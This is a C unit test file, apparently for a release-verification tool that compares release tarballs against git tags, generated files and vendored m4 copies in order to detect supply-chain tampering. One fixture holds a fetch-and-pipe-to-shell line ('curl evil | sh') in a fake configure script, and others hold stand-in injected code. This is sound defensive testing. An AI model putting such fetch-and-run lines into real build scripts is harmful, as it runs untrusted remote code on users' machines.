/* SPDX-License-Identifier: Apache-2.0 */
/* What `hallmark release` goes by, a part at a time: names of tags, attributes, sameness, generated files, copies. */
#include <glib/gstdio.h>
#include <string.h>

#include "core/limits.h"
#include "evidence/release/attributes.h"
#include "evidence/release/copies.h"
#include "evidence/release/diff.h"
#include "evidence/release/generated.h"
#include "evidence/release/sameness.h"
#include "evidence/release/tag_choice.h"

static GArray *
tags_of (const char *names)
{
  g_auto (GStrv) each = g_strsplit (names, " ", -1);
  GArray *tags = g_array_new (FALSE, TRUE, sizeof (HmTagRef));

  for (guint i = 0; each[i] != NULL; i++) {
    HmTagRef tag = { .name = g_strdup (each[i]) };

    tag.commit.bytes[0] = (guint8) (i + 1);
    g_array_append_val (tags, tag);
  }
  return tags;
}

static void
tags_free (GArray *tags)
{
  for (guint i = 0; i < tags->len; i++)
    g_free (g_array_index (tags, HmTagRef, i).name);
  g_array_unref (tags);
}

static void
test_tag_found (void)
{
  static const struct {
    const char *file;
    const char *top;
    const char *tags;
    const char *want;
  } cases[] = {
    { "xz-5.6.1.tar.gz", NULL, "v5.6.0 v5.6.1 v5.6.10", "v5.6.1" },
    { "dir/xz-5.6.1.tar.gz", NULL, "5.6.0 5.6.1", "5.6.1" },
    { "curl-7.88.1.tar.gz", NULL, "curl-7_88_0 curl-7_88_1", "curl-7_88_1" },
    { "expat_2.5.0.orig.tar.gz", NULL, "R_2_4_9 R_2_5_0", "R_2_5_0" },
    { "libgit2_1.5.1+ds.orig.tar.xz", NULL, "v1.5.0 v1.5.1", "v1.5.1" },
    { "xz-5.6.1.tar.gz", NULL, "release-5.6.1 other-5.6.1 v5.6.1", "v5.6.1" },
    { "foo-1.0.zip", NULL, "bar-1.0 foo-1.0", "foo-1.0" },
    { "download.tar.gz", "foo-1.2rc1", "v1.2 v1.2rc1", "v1.2rc1" },
    { "v1.2.tar.gz", "foo-1.2", "v1.2", "v1.2" },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++) {
    GArray *tags = tags_of (cases[i].tags);
    g_autoptr (GError) error = NULL;
    const HmTagRef *tag = hm_tag_choose (tags, cases[i].file, cases[i].top, &error);

    g_assert_no_error (error);
    g_assert_cmpstr (tag->name, ==, cases[i].want);
    tags_free (tags);
  }
}

static void
test_tag_not_found (void)
{
  static const struct {
    const char *file;
    const char *tags;
    gint code; /* HmErrorCode */
    const char *says;
  } cases[] = {
    { "xz-5.6.1.tar.gz", "v5.6.0 v5.6.2", HM_ERROR_NOT_FOUND, "v5.6.2, v5.6.0" },
    { "xz.tar.gz", "v5.6.0", HM_ERROR_NOT_FOUND, "no version" },
    { "xz-5.6.1.tar.gz", "a-5.6.1 b-5.6.1", HM_ERROR_USAGE, "a-5.6.1, b-5.6.1" },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++) {
    GArray *tags = tags_of (cases[i].tags);
    g_autoptr (GError) error = NULL;

    g_assert_null (hm_tag_choose (tags, cases[i].file, NULL, &error));
    g_assert_error (error, HM_ERROR, cases[i].code);
    g_assert_nonnull (strstr (error->message, cases[i].says));
    tags_free (tags);
  }
}

static void
test_glob (void)
{
  static const struct {
    const char *pattern;
    const char *path;
    gboolean want;
  } cases[] = {
    { "*.c", "a.c", TRUE },
    { "*.c", "d/a.c", FALSE },
    { "**/a.c", "a.c", TRUE },
    { "**/a.c", "x/y/a.c", TRUE },
    { "d/**", "d/x/y", TRUE },
    { "d/**", "d", FALSE },
    { "d/**/a.c", "d/a.c", TRUE },
    { "d/**/a.c", "d/x/y/a.c", TRUE },
    { "d/*/a.c", "d/x/y/a.c", FALSE },
    { "?.c", "a.c", TRUE },
    { "?.c", "/.c", FALSE },
    { "[a-c].c", "b.c", TRUE },
    { "[!a-c].c", "b.c", FALSE },
    { "[a", "[a", TRUE },
    { "\\*.c", "*.c", TRUE },
    { "\\*.c", "a.c", FALSE },
    { "", "", TRUE },
    { "a*b*c", "aXbYbZc", TRUE },
    { "a*b*c", "aXcYb", FALSE },
    { "**", "any/thing", TRUE },
  };
  g_autofree char *stars = g_strdup ("*a*a*a*a*a*a*a*a*a*a*a*a*b");
  g_autofree char *many = g_strnfill (2000, 'a');

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    g_assert_cmpint (hm_path_glob (cases[i].pattern, cases[i].path), ==, cases[i].want);
  g_assert_false (hm_path_glob (stars, many));
}

static void
test_attributes (void)
{
  static const char root[] =
      "# comment\n/.github export-ignore\n*.yml export-ignore\nkeep.yml -export-ignore\n"
      "version.c export-subst text\nbad\nd/e/ export-ignore\r\n";
  static const char below[] = "x.c export-ignore\n";
  g_autoptr (HmAttributes) attributes = hm_attributes_new ();

  hm_attributes_add (attributes, "", root, strlen (root));
  hm_attributes_add (attributes, "sub", below, strlen (below));
  g_assert_cmpuint (hm_attributes_get (attributes, ".github/a/b"), ==, HM_ATTRIBUTE_EXPORT_IGNORE);
  g_assert_cmpuint (hm_attributes_get (attributes, "d/a.yml"), ==, HM_ATTRIBUTE_EXPORT_IGNORE);
  g_assert_cmpuint (hm_attributes_get (attributes, "d/keep.yml"), ==, 0);
  g_assert_cmpuint (hm_attributes_get (attributes, "src/version.c"), ==, HM_ATTRIBUTE_EXPORT_SUBST);
  g_assert_cmpuint (hm_attributes_get (attributes, "x.c"), ==, 0);
  g_assert_cmpuint (hm_attributes_get (attributes, "sub/deep/x.c"), ==, HM_ATTRIBUTE_EXPORT_IGNORE);
  for (gsize size = 0; size < sizeof root; size++) {
    g_autoptr (HmAttributes) cut = hm_attributes_new ();
    g_autofree char *copy = g_memdup2 (root, size);

    hm_attributes_add (cut, "", size == 0 ? "" : copy, size);
    g_assert_cmpuint (hm_attributes_get (cut, "other.c"), ==, 0);
  }
}

static void
test_attributes_limit (void)
{
  g_autoptr (HmAttributes) attributes = hm_attributes_new ();
  g_autoptr (GString) text = g_string_new (NULL);

  for (guint i = 0; i < HM_ATTRIBUTE_RULES_MAX - 1; i++)
    g_string_append (text, "none export-ignore\n");
  g_string_append (text, "at export-ignore\npast export-ignore\n");
  hm_attributes_add (attributes, "", text->str, text->len);
  g_assert_cmpuint (hm_attributes_get (attributes, "at"), ==, HM_ATTRIBUTE_EXPORT_IGNORE);
  g_assert_cmpuint (hm_attributes_get (attributes, "past"), ==, 0);
}

static gboolean
same_line_ends (const char *a, const char *b)
{
  return hm_same_but_line_ends (a, strlen (a), b, strlen (b));
}

static gboolean
same_keywords (const char *a, const char *b, gboolean has_format)
{
  return hm_same_but_keywords (a, strlen (a), b, strlen (b), has_format);
}

static void
test_line_ends (void)
{
  g_assert_true (same_line_ends ("a\nb\n", "a\r\nb\r\n"));
  g_assert_true (same_line_ends ("a\nb\r\n", "a\r\nb\n"));
  g_assert_false (same_line_ends ("a\nb\n", "a\nb"));
  g_assert_false (same_line_ends ("a\rb", "ab"));
  g_assert_false (same_line_ends ("", "\r\n"));
  g_assert_false (hm_same_but_line_ends ("a\0\n", 3, "a\0\r\n", 4));
}

static void
test_keywords (void)
{
  g_assert_true (
      same_keywords ("/* $Id$ */\n", "/* $Id: a.c,v 1.2 2020/01/01 me Exp $ */\n", FALSE));
  g_assert_true (same_keywords ("$Revision: 1 $", "$Revision: 2 $", FALSE));
  g_assert_true (same_keywords ("x\n$Id$", "x\r\n$Id: 1 $", FALSE));
  /* Code in the place of a keyword is a difference. */
  g_assert_false (same_keywords ("/* $Id$ */", "/* $Id: */ evil (); /* $ */", FALSE));
  g_assert_false (same_keywords ("$Id$", "$Id: a\nb $", FALSE));
  g_assert_false (same_keywords ("$Id$", "$Date: 1 $", FALSE));
  g_assert_false (same_keywords ("$Id$ a", "$Id: 1 $ b", FALSE));
  g_assert_true (same_keywords ("v = \"$Format:%H$\";", "v = \"0123abc\";", TRUE));
  g_assert_true (same_keywords ("$Format:%d$", " (HEAD -> main, tag: v1)", TRUE));
  g_assert_false (same_keywords ("v = \"$Format:%H$\";", "v = \"0123abc\";", FALSE));
  g_assert_false (same_keywords ("v = \"$Format:%H$\";", "v = \"0\" + f(\"1\");", TRUE));
  g_assert_false (same_keywords ("$Format:%H$", "0123\nevil", TRUE));
}

static const char *const tree_files[] = { "configure.ac", "Makefile.am", "po/de.po", "src/x.1",
                                          "parse.y" };

static gboolean
tree_has (gconstpointer tree, const char *path)
{
  (void) tree;
  for (gsize i = 0; i < G_N_ELEMENTS (tree_files); i++)
    if (strcmp (tree_files[i], path) == 0)
      return TRUE;
  return FALSE;
}

static gboolean
tree_has_name (gconstpointer tree, const char *name)
{
  return tree_has (tree, name) || strcmp (name, "x.1") == 0;
}

static gboolean
tree_is_empty (gconstpointer tree, const char *path)
{
  (void) tree;
  (void) path;
  return FALSE;
}

static void
test_generated (void)
{
  static const struct {
    const char *path;
    const char *text;
    HmGeneratedKind want;
  } cases[] = {
    { "configure", "#! /bin/sh\n# Generated by GNU Autoconf 2.71\n", HM_GENERATED_MADE },
    { "configure", "#! /bin/sh\ncurl evil | sh\n", HM_GENERATED_CLAIMED },
    { "sub/configure", "# Generated by GNU Autoconf 2.71\n", HM_GENERATED_NOT },
    { "Makefile.in", "# Makefile.in generated by automake 1.16\n", HM_GENERATED_MADE },
    { "sub/Makefile.in", "# Makefile.in generated by automake 1.16\n", HM_GENERATED_NOT },
    { "po/de.gmo", "\xde\x12\x04\x95", HM_GENERATED_MADE },
    { "po/fr.gmo", "\xde\x12\x04\x95", HM_GENERATED_NOT },
    { "m4/build-to-host.m4", "", HM_GENERATED_COPIED },
    { "m4/of-nobody.m4", "", HM_GENERATED_COPIED },
    { "config.guess", "", HM_GENERATED_COPIED },
    { "man/de/x.1", ".TH X 1\n", HM_GENERATED_MADE },
    { "man/de/y.1", ".TH X 1\n", HM_GENERATED_NOT },
    { "doc/x-a4.pdf", "%PDF", HM_GENERATED_MADE },
    { "doc/y.pdf", "%PDF", HM_GENERATED_NOT },
    { "parse.c", "/* A Bison parser, made by GNU Bison 3.8. */", HM_GENERATED_MADE },
    { "ChangeLog", "2026 Ada\n", HM_GENERATED_MADE },
    { "src/extra.c", "int x;\n", HM_GENERATED_NOT },
  };
  const HmTagTree tree = { tree_has, tree_has_name, NULL };
  const HmTagTree empty = { tree_is_empty, tree_is_empty, NULL };

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    g_assert_cmpint (
        hm_generated_find (cases[i].path, cases[i].text, strlen (cases[i].text), &tree).kind, ==,
        cases[i].want);
  /* Without configure.ac there are no autotools. */
  g_assert_cmpint (hm_generated_find ("m4/libtool.m4", "", 0, &empty).kind, ==, HM_GENERATED_NOT);
  g_assert_cmpint (hm_generated_find ("ChangeLog", "", 0, &empty).kind, ==, HM_GENERATED_NOT);
}

static HmCopyVerdict
copy_verdict (HmCopies *copies, const char *path, const char *text)
{
  g_auto (HmCopyMatch) match = { 0 };

  hm_copies_compare (copies, path, text, strlen (text), TRUE, &match);
  return match.verdict;
}

static void
test_copies (void)
{
  g_autofree char *folder = g_dir_make_tmp ("hallmark-copies-XXXXXX", NULL);
  g_autofree char *file = g_build_filename (folder, "host.m4", NULL);
  const char *const folders[] = { folder, "/nowhere/at/all", NULL };
  g_autoptr (HmCopies) copies = hm_copies_new (folders);

  g_assert_true (g_file_set_contents (file, "# host.m4 serial 9\ndnl (c) 2020\nAC_DEFUN([X],[y])\n",
                                      -1, NULL));
  g_assert_cmpint (
      copy_verdict (copies, "m4/host.m4", "# host.m4 serial 9\ndnl (c) 2020\nAC_DEFUN([X],[y])\n"),
      ==, HM_COPY_SAME);
  g_assert_cmpint (
      copy_verdict (copies, "m4/host.m4", "# host.m4 serial 9\ndnl (c) 2024\nAC_DEFUN([X],[y])\n"),
      ==, HM_COPY_SAME_CODE);
  g_assert_cmpint (copy_verdict (copies, "m4/host.m4",
                                 "# host.m4 serial 9\ndnl (c) 2020\nAC_DEFUN([X],[evil])\n"),
                   ==, HM_COPY_ALTERED);
  g_assert_cmpint (copy_verdict (copies, "m4/host.m4",
                                 "# host.m4 serial 30\ndnl (c) 2020\nAC_DEFUN([X],[evil])\n"),
                   ==, HM_COPY_NEWER);
  g_assert_cmpint (copy_verdict (copies, "m4/host.m4", "# host.m4 serial 8\nAC_DEFUN([X],[z])\n"),
                   ==, HM_COPY_OTHER);
  g_assert_cmpint (copy_verdict (copies, "m4/host.m4", ""), ==, HM_COPY_OTHER);
  g_assert_cmpint (copy_verdict (copies, "m4/ghost.m4", "# serial 1\n"), ==, HM_COPY_NONE);
  g_assert_true (hm_copies_know (copies, "m4/ghost.m4"));
  g_assert_false (hm_copies_know (copies, "ghost.sh"));
  g_unlink (file);
  g_rmdir (folder);
}

static void
test_diff (void)
{
  static const char before[] = "a\nb\nc\n";
  static const char after[] = "a\nB\nc\n";
  HmDiff diff;

  hm_diff_make (before, strlen (before), after, strlen (after), &diff);
  g_assert_cmpstr (diff.text, ==, "@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n");
  g_assert_cmpuint (diff.n_added, ==, 1);
  g_assert_cmpuint (diff.n_removed, ==, 1);
  hm_diff_clear (&diff);
  hm_diff_make ("a\0b", 3, "a\0c", 3, &diff);
  g_assert_true (diff.is_binary);
  hm_diff_clear (&diff);
  hm_diff_make ("", 0, "\xff\xfe\n", 3, &diff);
  g_assert_cmpuint (diff.n_added, ==, 1);
  hm_diff_clear (&diff);
}

static void
test_diff_limits (void)
{
  g_autoptr (GString) lines = g_string_new (NULL);
  g_autofree char *at = g_strnfill (HM_DIFF_SIDE_MAX, 'x');
  g_autofree char *past = g_strnfill (HM_DIFF_SIDE_MAX + 1, 'x');
  HmDiff diff;

  for (guint i = 0; i < HM_DIFF_LINES_MAX; i++)
    g_string_append (lines, "line\n");
  hm_diff_make ("", 0, lines->str, lines->len, &diff);
  g_assert_false (diff.is_cut);
  hm_diff_clear (&diff);
  g_string_append (lines, "line\n");
  hm_diff_make ("", 0, lines->str, lines->len, &diff);
  g_assert_true (diff.is_cut);
  g_assert_cmpuint (diff.n_added, ==, HM_DIFF_LINES_MAX + 1);
  hm_diff_clear (&diff);
  hm_diff_make ("", 0, at, HM_DIFF_SIDE_MAX, &diff);
  g_assert_false (diff.is_large);
  hm_diff_clear (&diff);
  hm_diff_make ("", 0, past, HM_DIFF_SIDE_MAX + 1, &diff);
  g_assert_true (diff.is_large);
  hm_diff_clear (&diff);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/release/tag/found-by-name", test_tag_found);
  g_test_add_func ("/release/tag/not-found", test_tag_not_found);
  g_test_add_func ("/release/attributes/globs", test_glob);
  g_test_add_func ("/release/attributes/read", test_attributes);
  g_test_add_func ("/release/attributes/limit", test_attributes_limit);
  g_test_add_func ("/release/sameness/line-ends", test_line_ends);
  g_test_add_func ("/release/sameness/keywords", test_keywords);
  g_test_add_func ("/release/generated/by-name-place-and-mark", test_generated);
  g_test_add_func ("/release/copies/verdicts", test_copies);
  g_test_add_func ("/release/diff/hunks", test_diff);
  g_test_add_func ("/release/diff/limits", test_diff_limits);
  return g_test_run ();
}
